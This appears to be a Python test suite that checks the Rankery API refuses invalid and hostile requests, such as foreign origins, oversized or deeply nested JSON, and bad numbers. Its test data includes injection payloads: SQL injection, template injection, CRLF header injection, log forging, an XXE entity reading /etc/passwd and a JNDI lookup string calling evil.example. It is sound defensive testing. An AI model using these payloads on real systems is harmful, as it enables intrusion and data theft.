"""Invalid requests that Rankery's clients never send: headers, hosts, origins, bodies, numbers."""

import json
import re
import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from tests.security.attack import Attack, exchange, multipart
from tests.security.conftest import Send
from tests.security.target import Target

FORM = ("Content-Type", "application/x-www-form-urlencoded")
SYNTHETIC = {"name": "attack", "queries": 1}
TRAIN = {
    "kind": "train",
    "model_name": "web",
    "dataset_id": "{learnt}",
    "loss": {"name": "lambdarank"},
}
HUGE = "9" * 5_000


def _foreign(name: str, value: str, method: str = "GET") -> Attack:
    body = SYNTHETIC if method == "POST" else None
    path = "/v1/datasets/synthetic" if method == "POST" else "/v1/jobs"
    return Attack(path, 403, "foreign-origin", method, ((name, value),), body)


def _host(host: str) -> Attack:
    return Attack("/v1/jobs", 421, "foreign-host", host=host)


def _json(body: object, path: str = "/v1/jobs", status: int = 422, problem: str = "invalid-input") -> Attack:
    return Attack(path, status, problem, "POST", body=body)


def _rank(features: str) -> Attack:
    body = f'{{"queries":[{{"id":"q","documents":[{{"id":"d","features":{features}}}]}}]}}'
    return _json(body, "/v1/models/web/rank")


def _parameter(path: str) -> Attack:
    return Attack(path, 422, "invalid-input")


def _upload(status: int, problem: str, filename: str = "a.csv", **fields: str) -> Attack:
    content_type, body = multipart(filename, b"2 qid:1 1:0.5\n", **fields)
    return Attack("/v1/datasets", status, problem, "POST", (("Content-Type", content_type),), body)


FOREIGN: dict[str, Attack] = {
    "a page of another site reads": _foreign("Origin", "https://evil.example"),
    "a page of another site writes": _foreign("Origin", "https://evil.example", "POST"),
    "a page in a sandbox writes": _foreign("Origin", "null", "POST"),
    "a page of another port writes": _foreign("Origin", "http://127.0.0.1:1", "POST"),
    "a page of a name that begins like ours": _foreign("Origin", "http://127.0.0.1.evil.example", "POST"),
    "an origin that is a file": _foreign("Origin", "file://", "POST"),
    "two origins": Attack(
        "/v1/jobs",
        403,
        "foreign-origin",
        headers=(("Origin", "http://127.0.0.1"), ("Origin", "http://evil.example")),
    ),
    "an image on another site": _foreign("Sec-Fetch-Site", "cross-site"),
    "a form on another site": _foreign("Sec-Fetch-Site", "cross-site", "POST"),
    "a neighbour under one domain": _foreign("Sec-Fetch-Site", "same-site", "POST"),
    "a followed link that writes": Attack(
        "/v1/datasets/{measured}",
        403,
        "foreign-origin",
        "DELETE",
        (("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Dest", "document")),
    ),
    "a page of ours in a frame of another site": Attack(
        "/",
        403,
        "foreign-origin",
        headers=(
            ("Sec-Fetch-Site", "cross-site"),
            ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Dest", "iframe"),
        ),
    ),
    "a form of another site that signs in": Attack(
        "/sign-in", 403, "foreign-origin", "POST", (FORM, ("Origin", "https://evil.example")), "key=rk_x"
    ),
    "a preflight request of another site": Attack(
        "/v1/jobs",
        403,
        "foreign-origin",
        "OPTIONS",
        (("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")),
    ),
    "a name that resolves to this host": _host("rebind.evil.example"),
    "a name that begins like this machine": _host("localhost.evil.example"),
    "a name with a user": _host("localhost@evil.example"),
    "an empty name": Attack("/v1/jobs", 421, "foreign-host", host=" "),
    "a name with a path": _host("localhost/../evil.example"),
    "another name behind a proxy's header": Attack(
        "/v1/jobs", 421, "foreign-host", headers=(("X-Forwarded-Host", "localhost"),), host="evil.example"
    ),
}

BODIES: dict[str, Attack] = {
    "nested without end": _json(b"[" * 500_000),
    "objects nested without end": _json(b'{"a":' * 100_000),
    "deep within a field": _json('{"kind":"train","loss":' + "[" * 5_000 + "]" * 5_000 + "}"),
    "wide": _json({f"field {index}": index for index in range(40_000)}),
    "a million commas": _json(b"[" + b"0," * 400_000 + b"0]"),
    "too many empty objects": _json(b"[" + b"{}," * 300_000 + b"{}]"),
    "a long text": _json({"kind": "train", "model_name": "x" * 900_000}),
    "too long": _json({"kind": "x" * 2_000_000}, status=413, problem="too-large"),
    "a long name of a field": _json({"x" * 500_000: 1}),
    "the same field twice, the second bad": _json('{"queries":1,"queries":-1}', "/v1/datasets/synthetic"),
    "a field of the prototype": _json({**SYNTHETIC, "__proto__": {"admin": True}}, "/v1/datasets/synthetic"),
    "a field of the class": _json({**SYNTHETIC, "__class__": "x"}, "/v1/datasets/synthetic"),
    "a number without end": _json(f'{{"queries":{HUGE}}}', "/v1/datasets/synthetic"),
    "an exponent without end": _json('{"queries":1e999999999}', "/v1/datasets/synthetic"),
    "a feature beyond double": _rank("[1e999, 0]"),
    "a feature beyond float32": _rank("[1e300, 0]"),
    "a feature that is NaN": _rank("[NaN, 0]"),
    "a feature that is Infinity": _rank("[-Infinity, 0]"),
    "a feature of a thousand digits": _rank(f"[{'9' * 1_000}, 0]"),
    "a feature of another type": _rank('["1", 0]'),
    "a hundred thousand features": _rank("[" + "0," * 100_000 + "0]"),
    "a NUL byte": _json({**SYNTHETIC, "name": "a\0b"}, "/v1/datasets/synthetic"),
    "half a surrogate pair": _json('{"queries":1,"name":"\\ud800"}', "/v1/datasets/synthetic"),
    "surrogates in the wrong order": _json('{"queries":1,"name":"\\udfff\\ud800"}', "/v1/datasets/synthetic"),
    "bytes that are no UTF-8": _json(b'{"queries":1,"name":"\xff\xfe"}', "/v1/datasets/synthetic"),
    "UTF-16": _json('{"queries":1}'.encode("utf-16"), "/v1/datasets/synthetic"),
    "UTF-7": Attack(
        "/v1/jobs",
        415,
        "unsupported-media-type",
        "POST",
        (("Content-Type", "text/json;charset=utf-7"),),
        b"{}",
    ),
    "a form in place of JSON": Attack(
        "/v1/jobs", 415, "unsupported-media-type", "POST", (FORM,), "kind=train"
    ),
    "XML with an entity": Attack(
        "/v1/jobs",
        415,
        "unsupported-media-type",
        "POST",
        (("Content-Type", "application/xml"),),
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ),
    "a name that ends its line": _json(
        {**SYNTHETIC, "name": "a\r\nSet-Cookie: x=1"}, "/v1/datasets/synthetic"
    ),
    "a template in a name of a model": _json(TRAIN | {"model_name": "{{7*7}}"}),
    "a query in a name of a model": _json(TRAIN | {"model_name": "'; DROP TABLE jobs; --"}),
    "a query in an id": _json(TRAIN | {"dataset_id": "x' OR '1'='1"}, status=404, problem="not-found"),
    "columns nested without end": _upload(422, "invalid-input", columns="[" * 100_000),
    "columns wide beyond use": _upload(422, "invalid-input", columns='{"label":' + HUGE + "}"),
    "names of features without end": _upload(422, "invalid-input", feature_names="[" * 900_000),
    "a dataset's name that ends its line": _upload(422, "invalid-input", name="a\nb"),
    "a dataset's name without end": _upload(422, "invalid-input", name="x" * 4_000),
}

_JOB_FIELDS: dict[str, dict[str, Any]] = {
    "seed": {"seed": 2**63},
    "metric_interval": {"metric_interval": 2**64},
    "num_leaves": {"hyperparameters": {"num_leaves": 2**40}},
    "num_iterations": {"hyperparameters": {"num_iterations": 10**30}},
    "folds": {"validation": {"folds": 2**63, "fold": 1}},
    "truncation_level": {"loss": {"name": "lambdarank", "truncation_level": 2**70}},
    "label_map": {"label_map": {"1e999": 1}},
    "rounds": {"validation": {"fraction": 0.2}, "early_stopping": {"metric": "ndcg@5", "rounds": 2**65}},
    "cutoff": {"metrics": [f"ndcg@{HUGE[:60]}"]},
    "seconds": {"limits": {"seconds": -1}},
    "memory": {"limits": {"memory_bytes": 2**70}},
}
INTEGERS: dict[str, Attack] = (
    {
        path: _parameter(path)
        for path in (
            f"/v1/jobs?limit={HUGE}",
            "/v1/jobs?limit=-1",
            "/v1/jobs?limit=9223372036854775808",
            "/v1/jobs?limit=1e3",
            "/v1/jobs?limit=%D9%A1%D9%A0%D9%A0%D9%A0",
            f"/v1/jobs/{{job}}/history?after={HUGE}",
            "/v1/jobs/{job}/history?after=2147483648",
            f"/v1/datasets/{{measured}}/queries?cursor={HUGE[:150]}",
            "/v1/datasets/{measured}/queries?cursor=9223372036854775808",
            "/v1/datasets/{measured}/queries/q1?offset=9223372036854775808",
            "/v1/datasets/{measured}/queries/q1?limit=99999999999",
            "/v1/evaluations/{evaluation}/queries?cursor=-1",
            f"/v1/evaluations/{{evaluation}}/queries?cursor={HUGE[:150]}",
            "/v1/comparisons/{comparison}/differences?a=99999999999999999999",
            "/v1/comparisons/{comparison}/rankings?query_id=q1&top=99999999999999999999",
            "/v1/rankings/{ranking}?cursor=18446744073709551616",
            f"/v1/audit?limit={HUGE}",
            "/v1/keys?limit=0",
        )
    }
    | {f"{name} in a job": _json(TRAIN | field) for name, field in _JOB_FIELDS.items()}
    | {
        "version beyond 64 bits": Attack("/v1/models/web:99999999999999999999", 404, "not-found"),
        "version below zero": Attack("/v1/models/web:-1", 404, "not-found"),
        "alias to a version beyond 64 bits": Attack(
            "/v1/models/web/aliases/x", 422, "invalid-input", "PUT", body={"version": 2**64}
        ),
        "permutations without end": _json(
            {
                "kind": "compare",
                "dataset_id": "{measured}",
                "permutations": 10**18,
                "systems": [{"model": "web:1"}, {"model": "web:2"}],
            }
        ),
        "top_k beyond 64 bits": _json(
            '{"queries":[{"id":"q","documents":[]}],"top_k":' + HUGE[:30] + "}", "/v1/models/web/rank"
        ),
        "a key's bytes beyond 64 bits": _json(
            {"name": "k", "scopes": ["read"], "max_stored_bytes": 2**63}, "/v1/keys"
        ),
        "a key that expires after the last year": _json(
            {"name": "k", "scopes": ["read"], "expires_at": "99999-01-01T00:00:00Z"}, "/v1/keys"
        ),
        "a key's name that ends its line": _json({"name": "k\nadmin", "scopes": ["read"]}, "/v1/keys"),
    }
)


@pytest.mark.parametrize("case", [*FOREIGN, *BODIES, *INTEGERS])
def test_an_invalid_request_is_refused(send: Send, case: str) -> None:
    """Each request is refused with its status, its problem and a short answer."""
    attack = (FOREIGN | BODIES | INTEGERS)[case]
    answer = send(attack)
    assert (answer.status, answer.problem) == (attack.status, attack.problem), answer.body[:500]
    assert len(answer.body) < 100_000  # a small request gets no large answer
    assert not {name for name in answer.headers if name.startswith("access-control-")}


HEADERS = {
    "X-Request-ID that ends its line": ("X-Request-ID", "a\rSet-Cookie: stolen=1"),
    "X-Request-ID with a line feed": ("X-Request-ID", "a\nSet-Cookie: stolen=1"),
    "X-Request-ID with markup": ("X-Request-ID", "<script>alert(1)</script>"),
    "X-Request-ID with terminal controls": ("X-Request-ID", "\x1b[2Jcleared"),
    "X-Request-ID without end": ("X-Request-ID", "a" * 10_000),
    "Idempotency-Key that ends its line": ("Idempotency-Key", "a\rSet-Cookie: stolen=1"),
    "Idempotency-Key with terminal controls": ("Idempotency-Key", "\x1b]0;title\x07"),
    "Idempotency-Key without end": ("Idempotency-Key", "a" * 5_000),
    "If-None-Match without end": ("If-None-Match", ",".join(['"x"'] * 3_000)),
    "a header that ends the head": ("X-Any", "a\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: stolen=1\r\n"),
    "a user agent with placeholders of loggers": ("User-Agent", "${jndi:ldap://evil.example/a} %s%n\x1b[31m"),
}


@pytest.mark.parametrize("case", HEADERS)
def test_no_request_header_adds_an_answer_header(target: Target, send: Send, case: str) -> None:
    """A header of a request never adds a header to the answer, and an invalid request id is not returned."""
    name, value = HEADERS[case]
    answer = send(Attack("/v1/jobs?limit=1", 200, headers=((name, value),)))
    assert answer.status in {200, 400, 422, 431}
    assert "set-cookie" not in answer.headers
    assert b"stolen" not in answer.body
    if answer.status != 400:  # an answer of the HTTP server has no id
        assert re.fullmatch(r"[A-Za-z0-9._:-]{1,128}", answer.headers["x-request-id"])


@pytest.mark.parametrize(
    ("path", "lines"),
    [
        ("/v1/jobs%0d%0aX-Forged:%201-", 1),
        ("/v1/jobs/x%0A2026-01-01T00:00:00Z%20[info]%20forged", 1),
        ("/v1/jobs/%1b%5b2Jcleared", 1),
        ("/v1/jobs/%e2%80%a8forged", 1),
    ],
)
def test_no_path_adds_a_line_to_the_log(target: Target, send: Send, path: str, lines: int) -> None:
    """A path with line ends or control characters is one escaped line of the log."""
    marker = f"mark{time.monotonic_ns()}"
    assert send(Attack(f"{path}{marker}", 404)).status == 404
    log = target.data_dir / "logs" / "api.log"
    lines_with_marker = [
        line for line in _wait_for_marker(log.read_text, marker).split("\n") if marker in line
    ]
    assert len(lines_with_marker) == lines
    assert lines_with_marker[0].isprintable()
    assert "[rankery.access]" in lines_with_marker[0] or '"rankery.access"' in lines_with_marker[0]


FILENAMES = (
    'a".csv',
    "a\\.csv",
    "a%0d%0aSet-Cookie: x=1.csv",
    "наборы данных.csv",
    "数据.csv",
    "a;b=c.csv",
)


@pytest.mark.parametrize("name", FILENAMES)
def test_the_service_chooses_the_names_of_downloads(target: Target, send: Send, name: str) -> None:
    """Downloads are attachments whose names have only ASCII letters, digits and the characters `._-`."""
    content_type, body = multipart(name.replace('"', "%22"), b"2 qid:1 1:0.5\n1 qid:1 1:0.1\n", name=name)
    sent = send(Attack("/v1/datasets", 202, "", "POST", (("Content-Type", content_type),), body))
    assert sent.status == 202, sent.body
    dataset = json.loads(sent.body)
    target.wait_for_end(dataset["job_id"])
    for path in (
        f"/v1/datasets/{dataset['id']}/qrels",
        "/v1/models/web/export",
        "/v1/rankings/{ranking}?format=trec",
    ):
        answer = send(Attack(path, 200))
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', answer.headers["content-disposition"])
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_service_is_ready_after_all_attacks(target: Target) -> None:
    """The service answers health probes and requests after the attacks of this file."""
    with httpx.Client(trust_env=False) as http:
        assert http.get(f"{target.url}/healthz").status_code == 200
    assert exchange(target.url, Attack("/v1/jobs", 200).request(target.url, {}, target.secrets)).status == 200


def _wait_for_marker(read: Callable[[], str], marker: str) -> str:
    until = time.monotonic() + 10
    while time.monotonic() < until:
        text = read()
        if marker in text:
            return text
        time.sleep(0.05)
    raise AssertionError(f"{marker} is not in the log")
